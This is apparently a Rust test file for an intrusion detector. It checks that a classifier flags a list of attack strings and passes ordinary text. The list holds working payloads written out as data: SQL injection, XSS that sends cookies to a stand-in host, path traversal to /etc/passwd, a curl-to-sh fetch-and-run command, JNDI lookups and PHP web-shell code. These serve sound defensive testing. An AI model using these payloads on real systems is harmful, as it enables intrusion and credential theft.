//! The detector through its public door.

use proptest::prelude::*;

use super::*;

/// Texts that people write, and that look like attacks to whoever counts quotes.
pub(super) const ORDINARY: [&str; 36] = [
    "O'Brien",
    "D'Angelo & Sons, 12 St. John's Rd., Apt #4",
    "I'd like to select a table from the menu, please",
    "The union's select committee won't update us -- or will it?",
    "drop the table off at my house, or at Anna's",
    "please delete from my order: 2 x \"large\" coffee",
    "l'été, c'est l'heure d'aller à la plage",
    "¿Dónde está la biblioteca? ¡Aquí!",
    "Müller-Lüdenscheidt GmbH & Co. KG",
    "It's 5 o'clock; don't be late (again)!",
    "\"yes\" or \"no\"?",
    "x^2 + 3*x - 4 = 0",
    "if a < b and b > c then stop",
    "{\"name\": \"O'Neill\", \"tags\": [\"a\", \"b\"], \"n\": 3}",
    "[[0.1, -2.5], [3.0, 4.25]]",
    "https://example.com/search?q=blue+shoes&page=2",
    "anna.smith+news@example.co.uk",
    "2026-11-30T12:00:00Z",
    "d41d8cd98f00b204e9800998ecf8427e",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-DEF_123",
    "rock 'n' roll & blues",
    "50% off! Today only...",
    "C/ Mayor, 14, 3º izq.",
    "the price is $5 or $6",
    "AT&T",
    "R&D; B&B",
    "5'11\"",
    "Привет, как дела?",
    "今日はいい天気ですね。",
    "* milk\n* bread\n* eggs",
    "section 3.1 (page 12) -- see also appendix",
    "cat and dog",
    "user's guide, version 2.0",
    "where and when? between 3 and 4",
    "+49 (30) 1234-567",
    "create a group by Friday and order by Monday",
];

/// Attacks of many families, some of them hidden.
pub(super) const ATTACKS: [(&str, &str); 40] = [
    ("sqli", "1' or '1'='1"),
    ("sqli", "1%2527%2520UNION%2520ALL%2520SELECT%2520null%252Cnull--"),
    ("sqli", "1/**/aNd/**/sLeEp(5)#"),
    ("sqli", "'; drop table users;--"),
    ("sqli", "1) and 3=(select count(*) from all_users)--"),
    ("sqli", "-1 union select user(),version()"),
    ("sqli", "admin' --"),
    ("sqli", "1\u{a0}AND\u{a0}ascii(substr(user(),1,1))>64"),
    ("xss", "<script>alert(1)</script>"),
    ("xss", "&lt;img src=x onerror=alert(1)&gt;"),
    ("xss", "＜ｓｖｇ　ｏｎｌｏａｄ＝ａｌｅｒｔ（１）＞"),
    ("xss", "\" autofocus onfocus=alert(document.domain) x=\""),
    ("xss", "javascript:fetch('//a.example?'+document.cookie)"),
    ("xss", "';alert(String.fromCharCode(88,83,83))//"),
    ("traversal", "../../../../etc/passwd"),
    ("traversal", "..%252f..%252f..%252fetc%252fshadow%00.png"),
    ("traversal", "..%c0%af..%c0%afwindows/win.ini"),
    ("traversal", "php://filter/convert.base64-encode/resource=index.php"),
    ("traversal", "....//....//....//boot.ini"),
    ("command", "; cat /etc/passwd"),
    ("command", "127.0.0.1 && whoami"),
    ("command", "$(curl http://a.example/x.sh|sh)"),
    ("command", "`id`"),
    ("command", "| ping -c 3 10.0.0.1"),
    ("command", "a;c'a't${IFS}/etc/hosts"),
    ("command", "() { :;}; /bin/bash -c 'id'"),
    ("template", "{{7*7}}"),
    ("template", "${jndi:ldap://a.example/x}"),
    ("template", "${${lower:j}ndi:rmi://a.example/x}"),
    ("template", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    ("ldap", "*)(uid=*))(|(uid=*"),
    ("xpath", "' or count(//user)=3 or 'a'='b"),
    ("nosql", "{\"$gt\": \"\"}"),
    ("xml", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"),
    ("xml", "<!--#exec cmd=\"ls\" -->"),
    ("crlf", "x%0d%0aSet-Cookie:%20a=b"),
    ("code", "<?php system($_GET['c']); ?>"),
    ("code", "O:4:\"Evil\":1:{s:3:\"cmd\";s:2:\"id\";}"),
    ("code", "eval(base64_decode('cGhwaW5mbygpOw=='))"),
    ("code", "JzsgZHJvcCB0YWJsZSB1c2VyczstLSAxIG9yIDE9MQ=="),
];

#[test]
fn what_is_shipped_knows_attacks_and_leaves_people_alone() {
    let intruder = Intruder::shipped();
    assert!(intruder.weights().len() > 10_000, "its weights are there");
    for (family, text) in ATTACKS {
        assert!(intruder.is_hostile(text), "{family}: {text}: {}", intruder.score(text));
    }
    for text in ORDINARY {
        assert!(!intruder.is_hostile(text), "{text}: {}", intruder.score(text));
    }
    assert!(intruder.memory() <= 2 << 20);
}

#[test]
fn an_attack_is_found_in_the_midst_of_a_long_text() {
    let intruder = Intruder::shipped();
    let text = ORDINARY[2].repeat(40);
    assert!(!intruder.is_hostile(&text));
    assert!(intruder.is_hostile(format!("{text} <script>alert(1)</script> {text}")));
}

#[test]
fn a_request_is_judged_by_its_worst_part() {
    let intruder = Intruder::shipped();
    let agent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
    let headers = [("User-Agent", agent), ("Accept", "text/html,*/*;q=0.8"), ("Cookie", "session=1f3a9c; theme=dark")];
    let request =
        |target, body: &'static str| Request { method: "POST", target, headers: &headers, body: body.as_bytes() };
    let fine = intruder.request(&request("/shop/item.jsp?id=12&name=O%27Brien", "comment=it%27s+great&stars=5"));
    assert!(!fine.hostile, "{fine:?}");
    let found = intruder.request(&request("/shop/item.jsp?id=12", "comment=%3Csvg/onload=alert(1)%3E&stars=5"));
    assert!(found.hostile && found.part == Part::Value && found.name == "comment", "{found:?}");
    assert_eq!(found.family, Some("xss"));
    let found = intruder.request(&request("/shop/%2e%2e/%2e%2e/%2e%2e/etc/passwd", ""));
    assert!(found.hostile && found.part == Part::Path, "{found:?}");
    assert!(intruder.request(&request("/.git/config", "")).hostile);
    assert!(intruder.request(&request("/login", r#"{"user": "admin", "password": {"$ne": null}}"#)).hostile);
    let scanner = [("User-Agent", "sqlmap/1.8#stable (https://sqlmap.org)")];
    let found = intruder.request(&Request { target: "/", headers: &scanner, ..Request::default() });
    assert!(found.hostile && found.family == Some("scanner"), "{found:?}");
}

#[test]
fn rules_are_a_floor_that_no_teaching_lowers() {
    let mut intruder = Intruder::shipped();
    let text = "1' union select null,null--";
    (0..200).for_each(|_| intruder.learn(text, Part::Value, false, 5.0));
    assert!(intruder.is_hostile(text));
}

#[test]
fn it_learns_what_people_say_and_goes_on_where_it_was_saved() {
    let mut intruder = Intruder::shipped();
    let text = "frobnicate ~~ {now}";
    assert!(!intruder.is_hostile(text));
    (0..20).for_each(|_| intruder.learn(text, Part::Value, true, 2.0));
    assert!(intruder.is_hostile(text));
    let mut loaded = Intruder::load(&intruder.save()).unwrap();
    assert_eq!(loaded.score(text).to_bits(), intruder.score(text).to_bits());
    (0..40).for_each(|_| loaded.learn(text, Part::Value, false, 2.0));
    assert!(!loaded.is_hostile(text), "undone");
    assert!(Intruder::with_weights(&intruder.weights()).unwrap().is_hostile(text), "rounded");
    assert!(Intruder::with_weights(b"mtl1").is_err());
    assert!(Intruder::load(b"").is_err());
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_bytes_will_do(bytes in prop::collection::vec(any::<u8>(), 0..600), text in "[%&\\\\'\"#/*$\\^{}xu0-9a-f+|-]{0,80}") {
        let mut intruder = Intruder::blank();
        for text in [&bytes[..], text.as_bytes()] {
            intruder.learn(text, Part::Body, true, f64::NAN);
            intruder.learn(text, Part::Value, true, 1e9);
            prop_assert!(intruder.score(text).is_finite());
            let target = String::from_utf8_lossy(text);
            let headers = [("cookie", &*target), ("x", &*target)];
            let request = Request { method: &target, target: &target, headers: &headers, body: text };
            intruder.learn_request(&request, true, 1.0);
            prop_assert!(intruder.request(&request).score.is_finite());
            let mut history = History::default();
            history.learn(&target, &target, text);
            prop_assert!(history.surprise(&target, &target, text).is_finite());
        }
        let _ = Intruder::with_weights(&bytes);
    }
}
